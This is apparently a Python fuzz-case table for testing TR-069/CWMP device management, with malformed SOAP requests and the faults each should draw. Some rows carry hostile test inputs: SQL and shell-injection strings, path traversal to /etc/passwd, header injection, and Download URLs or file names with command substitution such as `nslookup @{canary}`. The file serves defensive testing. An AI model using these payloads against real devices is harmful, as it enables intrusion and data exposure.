"""Known-nasty messages: types and arrays, strings, paths, what requests mean (S3 to S6).

One entry a case. ``{value}`` and ``{name}`` as a place are the value and the name in the template's write;
``{known}``, ``{root}``, ``{branch}``, ``{text}``, ``{table}`` in an argument stand for the device's.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

from harness.fuzz.program import Edit, Expectation, Wanted
from harness.fuzz.soap.build import ANY, INVALID
from harness.fuzz.soap.dictionary import INJECTIONS
from harness.fuzz.soap.edits import edit
from harness.fuzz.soap.nasty_xml import BODY, GPV, NAME, NAMES, Nasty, row

E = edit
VALUE: Final = "{value}"
VALUE_NAME: Final = "{name}"
SET: Final = f"{BODY}/SetParameterValues"
LIST: Final = f"{SET}/ParameterList"
STRUCT: Final = f"{LIST}/ParameterValueStruct"
KEY: Final = f"{SET}/ParameterKey"
PATH: Final = f"{BODY}/GetParameterNames/ParameterPath"
NEXT: Final = f"{BODY}/GetParameterNames/NextLevel"
SPA: Final = f"{BODY}/SetParameterAttributes/ParameterList/SetParameterAttributesStruct"


def _fault(requirement: str, because: str, *codes: int) -> Expectation:
    return Expectation(Wanted.FAULT, codes, requirement, because)


def _success(requirement: str, because: str) -> Expectation:
    return Expectation(Wanted.SUCCESS, (), requirement, because)


_NO_WRITE: Final = _fault("cwmp.set.fault-codes", "TR-069 A.3.2.1: a bad value", 9003)
_READ_ONLY: Final = _fault("cwmp.set.fault-codes", "TR-069 A.3.2.1: not writable", 9003)
_BOOLEAN: Final = _success("cwmp.names.boolean-forms", "XML Schema Part 2, 3.2.2")
_SET_BOOLEAN: Final = _success("cwmp.set.boolean-forms", "XML Schema Part 2, 3.2.2")

_ARRAYS: Final = (
    *(row(f"array-length-{name}", "S3", f"arrayType with [{text}] for one item", "read-one", E("array-length", NAMES, text))
      for name, text in (("0", "0"), ("2", "2"), ("minus", "-1"), ("empty", ""), ("word", "x"), ("4294967295", "4294967295"),
                         ("4294967296", "4294967296"), ("2147483647", "2147483647"), ("two-dimensions", "1,1"), ("nested", "1][1"))),
    row("array-length-write-4294967295", "S3", "arrayType with [4294967295] in a write", "write-refused",
        E("array-length", LIST, "4294967295"), _READ_ONLY),
    row("array-type-missing", "S3", "no arrayType", "read-one", E("no-attribute", NAMES, "arrayType")),
    row("array-type-other", "S3", "arrayType of another type", "read-one", E("attribute", NAMES, "soap-enc:arrayType", "xsd:int[1]")),
    row("array-type-without-prefix", "S3", "arrayType without a prefix", "read-one", E("attribute", NAMES, "soap-enc:arrayType", "string[1]")),
    row("array-item-other-name", "S3", "an array item of another name", "read-one", E("rename", NAME, "Name")),
    row("array-item-with-type", "S3", "an array item with xsi:type", "read-one", E("attribute", NAME, "xsi:type", "xsd:string"),
        _success("cwmp.values.one-parameter", "SOAP 1.1 5.4.2: items may name their type")),
    row("array-offset", "S3", "an array that begins at its third item", "read-one", E("attribute", NAMES, "soap-enc:offset", "[2]")),
    row("array-of-nothing", "S3", "GetParameterValues of no names", "read-one", E("items", NAMES, 0)),
    row("array-of-nothing-write", "S3", "SetParameterValues of nothing", "write-refused", E("items", LIST, 0)),
    row("element-in-name", "S3", "an element inside a name", "read-one", E("append", NAME, "<x/>")),
    row("reference-by-href", "S3", "a name given by href", "read-one", (E("text", NAME, ""), E("attribute", NAME, "href", "#n"))),
    row("nil-name", "S3", "a name that is nil", "read-one", E("attribute", NAME, "xsi:nil", "1")),
    row("nil-list", "S3", "a list of names that is nil", "read-one", E("attribute", NAMES, "xsi:nil", "true")),
    row("nil-value", "S3", "a value that is nil", "write-refused", E("attribute", VALUE, "xsi:nil", "1"), _READ_ONLY),
)  # fmt: skip

_ARGUMENTS: Final = (
    row("argument-missing-names", "S3", "GetParameterValues without ParameterNames", "read-one", E("remove", NAMES), INVALID),
    row("argument-missing-path", "S3", "GetParameterNames without ParameterPath", "names-of-one", E("remove", PATH), INVALID),
    row("argument-missing-next-level", "S3", "GetParameterNames without NextLevel", "names-of-one", E("remove", NEXT)),
    row("argument-missing-list", "S3", "SetParameterValues without ParameterList", "write-refused", E("remove", LIST), INVALID),
    row("argument-missing-name", "S3", "a value without a name", "write-text", E("remove", VALUE_NAME), INVALID),
    row("argument-missing-value", "S3", "a name without a value", "write-text", E("remove", VALUE), INVALID),
    row("argument-missing-key", "S3", "SetParameterValues without ParameterKey", "write-refused", E("remove", KEY), _READ_ONLY),
    row("argument-missing-object", "S3", "AddObject without ObjectName", "add-refused", E("remove", f"{BODY}/AddObject/ObjectName"), INVALID),
    row("argument-missing-object-delete", "S3", "DeleteObject without ObjectName", "delete-refused",
        E("remove", f"{BODY}/DeleteObject/ObjectName"), INVALID),
    row("argument-extra", "S3", "an argument that the schema does not have", "read-one", E("append", GPV, "<Extra>1</Extra>")),
    row("argument-extra-1000", "S3", "1,000 arguments that the schema does not have", "methods",
        E("spread", f"{BODY}/GetRPCMethods", 1_000, "Extra")),
    row("argument-twice", "S3", "the names twice", "read-one", E("repeat", NAMES, 2)),
    row("argument-twice-value", "S3", "two values for one name", "write-refused", E("repeat", VALUE, 2), _READ_ONLY),
    row("argument-order", "S3", "arguments in the other order", "names-of-one", E("move-first", NEXT)),
    row("argument-order-value", "S3", "the value before its name", "write-refused", E("move-first", VALUE), _READ_ONLY),
    row("argument-qualified", "S3", "an argument in CWMP's namespace", "read-one", E("rename", NAMES, "cwmp:ParameterNames")),
    *(row(f"next-level-{text}", "S3", f"NextLevel {text!r}", "names-of-branch", E("text", NEXT, text), _BOOLEAN)
      for text in ("0", "1", "true", "false")),
    *(row(f"next-level-{name}", "S3", f"NextLevel {text!r}", "names-of-branch", E("text", NEXT, text))
      for name, text in (("upper", "TRUE"), ("title", "True"), ("2", "2"), ("blank", " 1 "), ("empty", ""), ("word", "yes"), ("minus", "-1"))),
)  # fmt: skip


def _typed(
    type_: str, good: Sequence[str], bad: Sequence[tuple[str, str]], open_: Sequence[tuple[str, str]]
) -> tuple[Nasty, ...]:
    wanted = _SET_BOOLEAN if type_ == "boolean" else ANY
    return (
        *(row(f"{type_}-{text}", "S3", f"a value of type {type_}: {text!r}", f"write-{type_}", E("text", VALUE, text), wanted) for text in good),
        *(row(f"{type_}-{name}", "S3", f"no value of type {type_}: {text!r}", f"write-{type_}", E("text", VALUE, text), _NO_WRITE)
          for name, text in bad),
        *(row(f"{type_}-{name}", "S3", f"hardly a value of type {type_}: {text!r}", f"write-{type_}", E("text", VALUE, text))
          for name, text in open_),
    )  # fmt: skip


_NO_NUMBER = (
    ("word", "one"),
    ("empty", ""),
    ("hexadecimal", "0x10"),
    ("exponent", "1e3"),
    ("fraction", "1.5"),
    ("comma", "1,000"),
    ("two", "1 2"),
)
_TYPES: Final = (
    *_typed("boolean", ("0", "1", "true", "false"), (("2", "2"), ("word", "yes"), ("empty", ""), ("minus", "-1")),
            (("upper", "TRUE"), ("title", "True"), ("blank", " 1 "))),
    *_typed("int", (), (*_NO_NUMBER, ("above", "2147483648"), ("below", "-2147483649"), ("far-above", "9" * 300)),
            (("plus", "+1"), ("zeros", "0001"), ("blank", " 1 "), ("digits", "\uff11"))),
    *_typed("unsignedInt", (), (*_NO_NUMBER, ("negative", "-1"), ("above", "4294967296"), ("far-above", "9" * 300)),
            (("plus", "+1"), ("zeros", "0001"), ("minus-zero", "-0"))),
    *_typed("unsignedLong", (), (("word", "one"), ("negative", "-1"), ("above", "18446744073709551616")), (("greatest", "18446744073709551615"),)),
    *_typed("dateTime", (), (("word", "now"), ("empty", ""), ("no-such-day", "2026-02-30T00:00:00Z"), ("no-such-month", "2026-13-01T00:00:00Z"),
                             ("no-such-hour", "2026-01-01T25:00:00Z"), ("seconds", "1767225600"), ("date-alone", "2026-01-01"),
                             ("blank-inside", "2026-01-01 00:00:00Z")),
            (("leap-second", "2026-12-31T23:59:60Z"), ("hour-24", "2026-01-01T24:00:00Z"), ("offset", "2026-01-01T00:00:00+14:00"),
             ("far-year", "99999-01-01T00:00:00Z"), ("negative-year", "-0001-01-01T00:00:00Z"), ("2038", "2038-01-19T03:14:08Z"),
             ("unknown-time", "0001-01-01T00:00:00Z"), ("without-zone", "2026-01-01T00:00:00"))),
    *_typed("base64", (), (("odd", "AAAAA"), ("padding", "A==="), ("foreign", "A*==")), (("blanks", "AA AA"), ("empty", ""), ("url-safe", "_-__"))),
    *_typed("hexBinary", (), (("odd", "0"), ("foreign", "0g")), (("upper", "DEADBEEF"), ("empty", ""))),
    *(row(f"xsi-type-{name}", "S3", f"a text with xsi:type {text!r}", "write-text", E("attribute", VALUE, "xsi:type", text))
      for name, text in (("int", "xsd:int"), ("boolean", "xsd:boolean"), ("unknown", "xsd:nonsense"), ("no-prefix", "string"), ("empty", ""),
                         ("unbound", "nothing:string"), ("long", "xsd:" + "s" * 5_000), ("array", "soap-enc:Array"))),
    row("xsi-type-missing", "S3", "a text without xsi:type", "write-text", E("no-attribute", VALUE, "type")),
)  # fmt: skip

_LENGTHS: Final = (
    255,
    256,
    257,
    1_024,
    1_025,
    2_049,
    3_072,
    3_073,
    4_096,
    4_097,
    8_193,
    16_385,
    30_000,
    65_536,
    1_000_000,
)
_WHOLE_ENVELOPE: Final = 30_000
"""Octets up to which every envelope has to be taken (32,768 with what stands around)."""
_UNKNOWN_NAME: Final = _fault("cwmp.values.unknown-name", "TR-069 A.3.2.2; A.5", 9003, 9005)


def _short(size: int, expectation: Expectation) -> Expectation:
    return expectation if size <= _WHOLE_ENVELOPE else INVALID


_STRINGS: Final = (
    *(row(f"long-string-{size}", "S4", f"a text of {size:,} characters", "write-text", E("fill", VALUE, size)) for size in _LENGTHS),
    *(row(f"long-refused-{size}", "S4", f"a text of {size:,} characters for a parameter that cannot be set", "write-refused",
          E("fill", VALUE, size), _short(size, _READ_ONLY)) for size in (257, 1_025, 3_073, 16_385, 65_536)),
    *(row(f"long-name-{size}", "S4", f"a name of {size:,} characters", "read-one", E("fill", NAME, size), _short(size, _UNKNOWN_NAME))
      for size in (256, 257, 1_025, 3_073, 16_385, 65_536, 1_000_000)),
    *(row(f"long-path-{size}", "S4", f"a path of {size:,} characters", "names-of-one", E("fill", PATH, size),
          _short(size, _fault("cwmp.names.unknown-path", "TR-069 A.3.2.3; A.5", 9003, 9005))) for size in (257, 3_073, 65_536)),
    *(row(f"long-name-write-{size}", "S4", f"a write to a name of {size:,} characters", "write-refused", E("fill", VALUE_NAME, size),
          _short(size, _fault("cwmp.set.fault-codes", "TR-069 A.3.2.1", 9003))) for size in (257, 3_073, 65_536)),
    *(row(f"long-object-{size}", "S4", f"AddObject of a name of {size:,} characters", "add-refused", E("fill", f"{BODY}/AddObject/ObjectName", size),
          _short(size, _fault("cwmp.add.bad-name", "TR-069 A.3.2.6", 9003, 9005))) for size in (257, 3_073, 65_536)),
    *(row(f"long-object-delete-{size}", "S4", f"DeleteObject of a name of {size:,} characters", "delete-refused",
          E("fill", f"{BODY}/DeleteObject/ObjectName", size),
          _short(size, _fault("cwmp.delete.bad-name", "TR-069 A.3.2.7", 9003, 9005))) for size in (257, 3_073, 65_536)),
    row("key-32", "S4", "a ParameterKey of 32 characters", "write-same-text", E("fill", KEY, 32),
        _success("cwmp.set.parameter-key-exact", "cwmp XML schemas (ParameterKeyType)")),
    row("key-special", "S4", "a ParameterKey of characters that XML escapes", "write-same-text", E("text", KEY, "<&>\"'\u00e4\u20ac\U0001f600"),
        _success("cwmp.set.parameter-key-exact", "cwmp XML schemas (ParameterKeyType)")),
    *(row(f"key-{size}", "S4", f"a ParameterKey of {size:,} characters", "write-same-text", E("fill", KEY, size), INVALID)
      for size in (33, 257, 3_073, 65_536)),
    *(row(f"text-{name}", "S4", f"a text with {says}", "write-text", E("text", VALUE, text)) for name, says, text in (
        ("formats", "printf directives", "%n%n%s%s%x%99999d"), ("quotes", "quotation marks", "'\"''\"\"`"), ("sql", "SQL", "' OR '1'='1';--"),
        ("backslashes", "backslashes", "\\\\\\0\\x00\\n\\"), ("traversal", "a path upwards", "../../../../etc/passwd"),
        ("line-breaks", "line breaks", "a\nb\r\nc\rd"), ("tabs", "tabs", "a\tb"), ("markup", "markup", "<b>&amp;</b>]]>"),
        ("blanks", "blanks around", "  a  "), ("only-blanks", "nothing but blanks", "   "), ("empty", "nothing in it", ""),
        ("four-octets", "characters of four octets", "\U0001f600\U0001d11e"), ("right-to-left", "direction marks", "\u202eabc\u202d"),
        ("combining", "many combining marks", "e" + "\u0301" * 40), ("bom-inside", "a byte order mark inside", "a\ufeffb"),
        ("line-separator", "a line separator", "a\u2028b\u0085c"), ("delete", "DEL", "a\x7fb"), ("json", "JSON", '{"a":[1,null]}'),
        ("http-header", "a header line", "a\r\nSet-Cookie: x=1"))),
    *(row(f"injection-{name}", "S4", f"a text that a shell would run: {text!r}", "write-text", E("text", VALUE, text))
      for name, text in INJECTIONS.items()),
    *(row(f"injection-name-{name}", "S4", f"a name that a shell would run: {text!r}", "read-one", E("text", NAME, text), _UNKNOWN_NAME)
      for name, text in INJECTIONS.items() if name in {"semicolon", "backquotes", "dollar", "pipe"}),
)  # fmt: skip

_NAME_FAULT: Final = _fault("cwmp.values.unknown-name", "TR-069 A.3.2.2: unknown name", 9005)
_NO_DOT: Final = _fault("cwmp.values.object-without-dot", "TR-069 A.3.2.2", 9005)
_CASE: Final = _fault("cwmp.values.case-sensitive", "TR-069 A.3.2.2", 9005)
_BAD_NAMES: Final = (
    ("dot", ".", _UNKNOWN_NAME), ("two-dots", "..", _UNKNOWN_NAME), ("root-without-dot", "{bare}", _NO_DOT), ("object-without-dot",
    "{root}DeviceInfo", _NO_DOT),
    ("leading-dot", ".{known}", _UNKNOWN_NAME), ("trailing-dot", "{known}.", _NAME_FAULT), ("double-dot",
    "{root}DeviceInfo..SoftwareVersion", _UNKNOWN_NAME),
    ("two-dots-behind", "{root}DeviceInfo..", _UNKNOWN_NAME), ("lower-case", "{lower}deviceinfo.softwareversion", _CASE),
    ("other-root", "Nothing.At.All", _NAME_FAULT), ("unknown", "{root}X_000000_Nothing", _NAME_FAULT), ("unknown-object",
    "{root}X_000000_Nothing.", _NAME_FAULT),
    ("instance-0", "{root}DeviceInfo.0.", _NAME_FAULT), ("instance-minus", "{root}X_000000_T.-1.A", _UNKNOWN_NAME),
    ("instance-4294967296", "{root}X_000000_T.4294967296.A", _UNKNOWN_NAME), ("instance-alias", "{root}X_000000_T.[a].A", _UNKNOWN_NAME),
    ("instance-placeholder", "{root}X_000000_T.{i}.A", _UNKNOWN_NAME), ("wildcard", "{root}*.SoftwareVersion", ANY), ("wildcard-root", "*", ANY),
    ("slash", "{root}DeviceInfo/SoftwareVersion", _NAME_FAULT), ("percent", "{known}%00", _NAME_FAULT), ("blank-inside",
    "{root}Device Info.SoftwareVersion", _UNKNOWN_NAME),
    ("segments-300", "{root}" + "A." * 300, _UNKNOWN_NAME), ("segments-5000", "{root}" + "A." * 5_000, _UNKNOWN_NAME), ("beyond-ascii",
    "{root}\u00e4\u20ac", _UNKNOWN_NAME),
)  # fmt: skip

_PATHS: Final = (
    *(row(f"path-{name}", "S5", f"a value of {text if len(text) < 60 else f'{len(text)} characters of path'!r}", "read-one",
    E("text", NAME, text), wanted)
      for name, text, wanted in _BAD_NAMES),
    *(row(f"names-{name}", "S5", f"names below {text if len(text) < 60 else f'{len(text)} characters of path'!r}", "names-of-one",
          E("text", PATH, text), ANY if wanted is ANY else _fault("cwmp.names.unknown-path", "TR-069 A.3.2.3", *wanted.codes))
      for name, text, wanted in _BAD_NAMES),
    row("path-empty", "S5", "the empty name, for the whole model", "read-one", E("text", NAME, ""),
        _success("cwmp.values.root", "TR-069 A.3.2.2")),
    row("path-blank", "S5", "a name with a blank behind it", "read-one", E("text", NAME, "{known} ")),
    row("path-line-feed", "S5", "a name with a line feed behind it", "read-one", E("text", NAME, "{known}\n")),
    row("names-empty-next", "S5", "the names below the empty path", "names-of-root", E("text", PATH, ""),
        _success("cwmp.names.root", "TR-069 A.3.2.3")),
    row("names-next-of-parameter", "S5", "the next level of a parameter", "names-of-one", E("text", NEXT, "1"),
        _fault("cwmp.names.next-level-of-parameter", "TR-069 A.3.2.3", 9003)),
    row("write-partial-path", "S5", "a value for an object", "write-refused", E("text", VALUE_NAME, "{branch}"),
        _fault("cwmp.set.partial-path", "TR-069 A.3.2.1", 9003)),
    *(row(f"write-{name}", "S5", f"a value for {text!r}", "write-refused", E("text", VALUE_NAME, text),
          _fault("cwmp.set.fault-codes", "TR-069 A.3.2.1: unknown name", 9003))
      for name, text in (("empty-name", ""), ("dot", "."), ("unknown-name", "{root}X_000000_Nothing"), ("double-dot",
      "{root}DeviceInfo..SoftwareVersion"))),
    *(row(f"add-{name}", "S5", f"AddObject of {text!r}", "add-refused", E("text", f"{BODY}/AddObject/ObjectName", text),
          _fault("cwmp.add.bad-name", "TR-069 A.3.2.6", 9003, 9005))
      for name, text in (("empty", ""), ("dot", "."), ("root", "{root}"), ("parameter", "{known}"), ("no-dot", "{root}DeviceInfo"),
                         ("unknown", "{root}X_000000_Table."), ("placeholder", "{root}X_000000_Table.{i}."), ("double-dot", "{root}DeviceInfo.."))),
    *(row(f"add-{name}", "S5", f"AddObject of {text!r}", "add", E("text", f"{BODY}/AddObject/ObjectName", text),
          _fault("cwmp.add.bad-name", "TR-069 A.3.2.6", 9003, 9005))
      for name, text in (("table-number", "{table}987654."), ("table-placeholder", "{table}{i}."), ("table-minus", "{table}-1."),
      ("table-double-dot", "{table}."))),
    row("add-table-no-dot", "S5", "AddObject of a table without its dot", "add", E("text", f"{BODY}/AddObject/ObjectName", "{table_bare}"),
        _fault("cwmp.add.bad-name", "TR-069 A.3.2.6", 9003, 9005)),
    *(row(f"delete-{name}", "S5", f"DeleteObject of {text!r}", "delete-refused", E("text", f"{BODY}/DeleteObject/ObjectName", text),
          _fault("cwmp.delete.bad-name", "TR-069 A.3.2.7", 9003, 9005))
      for name, text in (("empty", ""), ("dot", "."), ("parameter", "{known}"), ("branch", "{branch}"), ("no-such-row", "{table}987654."),
                         ("row-0", "{table}0."), ("row-minus", "{table}-1."), ("row-4294967297", "{table}4294967297."), ("row-placeholder",
                         "{table}{i}."),
                         ("row-alias", "{table}[nobody]."), ("table", "{table}"))),
    row("delete-wildcard", "S5", "DeleteObject of every row of no table", "delete-refused",
        E("text", f"{BODY}/DeleteObject/ObjectName", "{root}X_000000_Table.*.")),
)  # fmt: skip


def _second(name: str, value: str, type_: str = "xsd:string") -> Edit:
    """A further value at the end of the list."""
    struct = f'<ParameterValueStruct><Name>{name}</Name><Value xsi:type="{type_}">{value}</Value></ParameterValueStruct>'
    return E("append", LIST, struct)


_TWO = E("array-length", LIST, "2")
_ATOMIC: Final = _fault("cwmp.set.atomic", "TR-069 A.3.2.1: all or nothing", 9003)
_MANY: Final = _success("cwmp.values.many-names", "TR-069 A.3.2.2")

_MEANING: Final = (
    row("set-good-and-read-only", "S6", "a good value and one for a parameter that cannot be set", "write-text",
        (_TWO, _second("{read_only}", "fuzz")), _ATOMIC),
    row("set-good-and-unknown", "S6", "a good value and one for an unknown parameter", "write-text",
        (_TWO, _second("{root}X_000000_Nothing", "fuzz")), _ATOMIC),
    row("set-read-only-and-good", "S6", "a value that cannot be set before a good one", "write-refused",
        (_TWO, _second("{text}", "fuzz-2")), _ATOMIC),
    row("set-good-and-partial", "S6", "a good value and one for an object", "write-text", (_TWO, _second("{branch}", "fuzz")), _ATOMIC),
    row("set-good-and-nothing", "S6", "a good value and one for the empty name", "write-text", (_TWO, _second("", "fuzz")), _ATOMIC),
    row("set-twice-different", "S6", "two different values for one parameter", "write-text", (_TWO, _second("{text}", "fuzz-2")),
        _fault("cwmp.set.same-parameter-twice", "TR-069 A.3.2.1", 9003)),
    row("set-twice-same", "S6", "the same value twice for one parameter", "write-text", (_TWO, _second("{text}", "fuzz"))),
    *(row(f"set-many-read-only-{count}", "S6", f"{count:,} values for a parameter that cannot be set", "write-refused", E("items", LIST, count),
          _READ_ONLY if count <= 100 else INVALID) for count in (2, 100, 1_000, 10_000)),
    *(row(f"set-many-{count}", "S6", f"the same value {count:,} times", "write-same-text", E("items", LIST, count))
    for count in (2, 100, 1_000, 10_000)),
    *(row(f"read-many-{count}", "S6", f"the same name {count:,} times", "read-one", E("items", NAMES, count), _MANY if count <= 256 else ANY)
      for count in (2, 100, 256, 1_000, 10_000)),
    row("read-good-and-unknown", "S6", "a known and an unknown name", "read-one",
        (E("array-length", NAMES, "2"), E("append", NAMES, "<string>{root}X_000000_Nothing</string>")), _NAME_FAULT),
    row("read-unknown-and-good", "S6", "an unknown and a known name", "read-one",
        (E("array-length", NAMES, "2"), E("prepend", NAMES, "<string>{root}X_000000_Nothing</string>")), _NAME_FAULT),
    row("attributes-good-and-unknown", "S6", "attributes of a known and an unknown name", "attributes-of-one",
        (E("array-length", f"{BODY}/GetParameterAttributes/ParameterNames", "2"),
         E("append", f"{BODY}/GetParameterAttributes/ParameterNames", "<string>{root}X_000000_Nothing</string>")),
        _fault("cwmp.fault.codes", "TR-069 A.3.2.5, A.5", 9003, 9005)),
    *(row(f"notification-{text}", "S6", f"Notification {text}", "attributes-kept",
          (E("text", f"{SPA}/NotificationChange", "1"), E("text", f"{SPA}/Notification", text)),
          _fault("cwmp.attributes.out-of-range", "TR-069 A.3.2.4", 9003)) for text in ("7", "-1", "4294967296", "2147483648")),
    *(row(f"notification-{name}", "S6", f"Notification {text!r}", "attributes-kept",
          (E("text", f"{SPA}/NotificationChange", "1"), E("text", f"{SPA}/Notification", text)), INVALID)
      for name, text in (("word", "active"), ("empty", ""))),
    row("notification-forced", "S6", "no more notification of the software version", "attributes-refused",
        (E("text", f"{SPA}/Name", "{root}DeviceInfo.SoftwareVersion"), E("text", f"{SPA}/Notification", "0")),
        _fault("cwmp.attributes.forced-active", "TR-181 Device:2, activeNotify forceEnabled", 9009)),
    row("attributes-unknown", "S6", "attributes for an unknown parameter", "attributes-refused", (),
        _fault("cwmp.fault.codes", "TR-069 A.3.2.4, A.5", 9003, 9005)),
    *(row(f"access-list-{count}", "S6", f"an access list of {count:,} entries, not to be changed", "attributes-kept",
          (E("attribute", f"{SPA}/AccessList", "soap-enc:arrayType", f"xsd:string[{count}]"), E("spread", f"{SPA}/AccessList", count, "string")))
      for count in (1, 100, 10_000)),
    row("access-list-long", "S6", "an access list with an entry of 3,073 characters, not to be changed", "attributes-kept",
        (E("array-length", f"{SPA}/AccessList", "1"), E("append", f"{SPA}/AccessList", f"<string>{'A' * 3_073}</string>"))),
    row("attributes-many", "S6", "the same attributes 1,000 times, not to be changed", "attributes-kept",
        E("items", f"{BODY}/SetParameterAttributes/ParameterList", 1_000)),
)  # fmt: skip

_HARMFUL: Final = (
    *(row(f"reboot-key-{size}", "S6", f"Reboot with a CommandKey of {size:,} characters", "reboot", E("fill", f"{BODY}/Reboot/CommandKey", size),
          INVALID) for size in (33, 3_073)),
    *(row(f"schedule-inform-{text}", "S6", f"ScheduleInform in {text} seconds", "schedule-inform",
    E("text", f"{BODY}/ScheduleInform/DelaySeconds", text),
          _fault("cwmp.fault.codes", "TR-069 A.4.1.2; XML Schema: no unsignedInt above 0", 9003)) for text in ("0", "-1", "4294967296", "x")),
    row("schedule-inform-4294967295", "S6", "ScheduleInform in 136 years", "schedule-inform",
    E("text", f"{BODY}/ScheduleInform/DelaySeconds", "4294967295")),
    *(row(f"download-{name}", "S6", f"Download from {text!r}", "download", E("text", f"{BODY}/Download/URL", text)) for name, text in (
        ("nothing", ""), ("path", "/etc/passwd"), ("file", "file:///etc/passwd"), ("ftp", "ftp://@{canary}/x"), ("gopher", "gopher://@{canary}/x"),
        ("no-host", "http:///x"), ("port-70000", "http://@{canary}:70000/x"), ("shell", "http://@{canary}/`id`"), ("long",
        "http://@{canary}/" + "A" * 3_073))),
    row("download-scheme", "S6", "Download by a scheme that nobody has", "download", E("text", f"{BODY}/Download/URL", "nonsense://@{canary}/x"),
        _fault("cwmp.download.schemes", "TR-069 A.3.2.8", 9013)),
    row("download-credentials-in-url", "S6", "Download from a URL with a password", "download",
        E("text", f"{BODY}/Download/URL", "http://user:word@@{canary}/x"), _fault("cwmp.download.credentials-in-url", "TR-069 A.3.2.8", 9003)),
    row("download-type", "S6", "Download of an unknown type", "download", E("text", f"{BODY}/Download/FileType", "99 Nothing"),
        _fault("cwmp.download.unknown-type", "TR-069 A.3.2.8", 9001, 9003)),
    *(row(f"download-size-{text}", "S6", f"Download of {text} octets", "download", E("text", f"{BODY}/Download/FileSize", text))
      for text in ("-1", "4294967295", "4294967296", "x")),
    *(row(f"download-delay-{text}", "S6", f"Download in {text} seconds", "download", E("text", f"{BODY}/Download/DelaySeconds", text))
      for text in ("-1", "4294967295", "4294967296")),
    *(row(f"download-target-{name}", "S6", f"Download to {text!r}", "download", E("text", f"{BODY}/Download/TargetFileName", text))
      for name, text in (("upwards", "../../../etc/passwd"), ("absolute", "/etc/passwd"), ("long", "A" * 3_073), ("shell", "`nslookup @{canary}`"))),
    row("upload-type", "S6", "Upload of a file that there is not", "upload", E("text", f"{BODY}/Upload/FileType",
    "3 Vendor Configuration File 99999"),
        _fault("cwmp.upload.types", "TR-069 A.4.1.5", 9003)),
    row("acs-url-3073", "S6", "an ACS URL of 3,073 characters", "write-acs-url", E("fill", VALUE, 3_073, "http://a/")),
    *(row(f"credentials-{size}", "S6", f"a user of connection requests of {size:,} characters", "write-credentials",
    E("fill", VALUE, size), _NO_WRITE)
      for size in (257, 3_073)),
)  # fmt: skip
"""Only where harm is allowed: their templates are destructive."""

RPC_ROWS: Final = (*_ARRAYS, *_ARGUMENTS, *_TYPES, *_STRINGS, *_PATHS, *_MEANING, *_HARMFUL)
"""All rows of this file."""
